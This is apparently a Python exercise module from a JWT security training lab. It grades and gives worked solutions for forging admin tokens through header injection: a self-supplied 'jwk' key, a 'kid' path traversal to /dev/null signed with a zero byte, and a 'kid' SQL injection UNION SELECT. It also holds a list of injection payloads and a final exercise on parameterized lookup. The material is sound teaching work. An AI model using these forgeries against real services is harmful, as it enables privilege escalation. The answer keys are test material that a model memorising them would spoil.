"""Exercises for notebook 07: header injection (jwk, jku, kid)."""

from __future__ import annotations

import sqlite3
import tempfile
from collections.abc import Callable
from contextlib import closing
from typing import Any

from labkit import examples, keys, tokens, vulnerable
from labkit.errors import InvalidTokenError, LabkitError
from labkit.exercises import NOT_ATTEMPTED, Exercise, token_answer
from labkit.verify import verify

__all__ = ["EXERCISES"]

_NOW = 1767259800  # 2026-01-01T09:30:00Z: the frozen clock of notebooks 07 and 08
_API = {"audience": "labkit-api", "issuer": "https://idp.labkit.local", "now": _NOW}
_HONEST = {"2026-01": "first-secret-0123456789abcdef", "2026-02": "second-secret-0123456789abcdef"}
_PAYLOADS = ("x' UNION SELECT 'evil' --", "' OR '1'='1", "2026-01' --", "nope' OR kid LIKE '%")


def _admin_forgery(answer: Any) -> tokens.Token | str:
    """The parsed answer if it is Alice's claims with role admin; else what is off."""
    forged = token_answer(answer, "forged token")
    if isinstance(forged, str):
        return forged
    if forged.payload.get("role") != "admin":
        return "the payload's role should be 'admin'"
    if {**forged.payload, "role": "reader"} != examples.LAB_CLAIMS:
        return "keep Alice's other claims as they are (start from {**alice, 'role': 'admin'})"
    return forged


def _accepted(verifier: Callable[..., Any], token: str, key: Any, alg: str) -> str | None:
    try:
        verifier(token, key, algorithms=[alg], **_API)
    except LabkitError as exc:
        return f"the vulnerable service refused it: {exc}"
    return None


def _accepted_by_store(verifier: Callable[..., Any], token: str, where: str) -> str | None:
    """Run a kid verifier against a key store of the checker's own, removed right after."""
    with tempfile.TemporaryDirectory(prefix="labkit-07-") as folder:
        store = vulnerable.make_key_store(folder)
        return _accepted(verifier, token, getattr(store, where), "HS256")


def _jwk_forgery(answer: Any) -> str | None:
    forged = _admin_forgery(answer)
    if isinstance(forged, str):
        return forged
    if "jwk" not in forged.header:
        return "the header needs a 'jwk' member: the public half of your key"
    service = keys.demo_public_key("rsa")
    try:
        verify(answer, service, algorithms=["RS256"], **_API)
    except InvalidTokenError:
        pass
    else:
        return "that is signed with the service's own private key; an attacker has only their own"
    return _accepted(vulnerable.trust_embedded_jwk, answer, service, "RS256")


def _traversal_forgery(answer: Any) -> str | None:
    forged = _admin_forgery(answer)
    if isinstance(forged, str):
        return forged
    kid = forged.header.get("kid")
    if not isinstance(kid, str) or "dev/null" not in kid:
        return "point the header's 'kid' at /dev/null, climbing out of the key directory with ../"
    return _accepted_by_store(vulnerable.kid_as_path, answer, "directory")


def _sql_forgery(answer: Any) -> str | None:
    forged = _admin_forgery(answer)
    if isinstance(forged, str):
        return forged
    kid = forged.header.get("kid")
    if not isinstance(kid, str) or "select" not in kid.lower():
        return "put a UNION SELECT of your secret into the header's 'kid'"
    return _accepted_by_store(vulnerable.kid_in_sql, answer, "database")


def _safe_lookup(answer: Any) -> str | None:
    if not callable(answer):
        return "pass your function itself (no parentheses)"
    with closing(sqlite3.connect(":memory:")) as db:
        db.execute("CREATE TABLE keys (kid TEXT PRIMARY KEY, secret TEXT NOT NULL)")
        db.executemany("INSERT INTO keys VALUES (?, ?)", list(_HONEST.items()))
        for kid, secret in _HONEST.items():
            got = answer(db, kid)
            if got is None:
                return (
                    NOT_ATTEMPTED if kid == "2026-01" else f"kid {kid!r} exists; you returned None"
                )
            if got not in (secret, secret.encode()):
                return f"for kid {kid!r} you returned {got!r}, expected {secret!r}"
        for kid in _PAYLOADS:
            try:
                got = answer(db, kid)
            except sqlite3.Error as exc:
                return f"kid {kid!r} broke your query ({exc}): it still reaches the SQL text"
            if got is not None:
                return f"kid {kid!r} returned {got!r}; it should find no key (None)"
        if answer(db, "2026-03") is not None:
            return "an unknown kid should give None"
    return None


EXERCISES = (
    Exercise(
        id="07.1",
        title="Bring your own key",
        verify=_jwk_forgery,
        hints=(
            "Make an RSA key pair of your own, put its public half in the header as a JWK, "
            "and sign with its private half.",
            "rsa.generate_private_key(public_exponent=65537, key_size=2048); keys.to_jwk(public); "
            "labkit.sign_token(claims, key, 'RS256', headers={'jwk': ...}).",
        ),
        solution="""\
from cryptography.hazmat.primitives.asymmetric import rsa

my_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
my_jwk = keys.to_jwk(my_key.public_key())
answer = labkit.sign_token({**alice, "role": "admin"}, my_key, "RS256", headers={"jwk": my_jwk})""",
        starter="answer = ...",
        success="The verifier checked your signature with your key: it proved only that you "
        "signed it.",
    ),
    Exercise(
        id="07.2",
        title="An empty key without an empty key",
        verify=_traversal_forgery,
        hints=(
            "labkit.sign_token refuses an empty secret. HMAC first pads every key with zero "
            "bytes to the hash's block size (64 bytes for SHA-256).",
            "So b'\\x00' and b'' are the same HMAC key: sign with b'\\x00' and a kid of "
            "'../../../../../../dev/null'.",
        ),
        solution="""\
kid = "../" * 10 + "dev/null"
answer = labkit.sign_token({**alice, "role": "admin"}, b"\\x00", "HS256", headers={"kid": kid})""",
        starter="answer = ...",
        success="One zero byte and no bytes at all are the same HMAC key, which is why "
        "PortSwigger's lab signs with AA==.",
    ),
    Exercise(
        id="07.3",
        title="Your key, from their database",
        verify=_sql_forgery,
        hints=(
            "Close the quote in the service's WHERE clause, then UNION SELECT a secret of your "
            "own and comment out the rest with --.",
            "The service still refuses secrets under 32 bytes, so pick a long one without a "
            "quote in it; sign with the same secret.",
        ),
        solution="""\
my_secret = "mallory-chose-this-secret-of-40-bytes!!!"
kid = f"nothing' UNION SELECT '{my_secret}' --"
answer = labkit.sign_token({**alice, "role": "admin"}, my_secret, "HS256", headers={"kid": kid})""",
        starter="answer = ...",
        success="The minimum key length held, and did not matter: you chose the key.",
    ),
    Exercise(
        id="07.4",
        title="Look the kid up safely",
        verify=_safe_lookup,
        hints=(
            "Never build the SQL text from the kid: pass it as a parameter, so the database "
            "reads it as a value and never as SQL.",
            "db.execute('SELECT secret FROM keys WHERE kid = ?', (kid,)).fetchone() gives a row "
            "or None.",
        ),
        solution="""\
def lookup_secret(db, kid):
    row = db.execute("SELECT secret FROM keys WHERE kid = ?", (kid,)).fetchone()
    return None if row is None else row[0]


answer = lookup_secret""",
        starter="""\
def lookup_secret(db, kid):
    ...  # return the secret stored for kid, or None


answer = lookup_secret""",
        success="A parameter is a value, whatever quotes it holds: the query cannot be rewritten.",
    ),
)
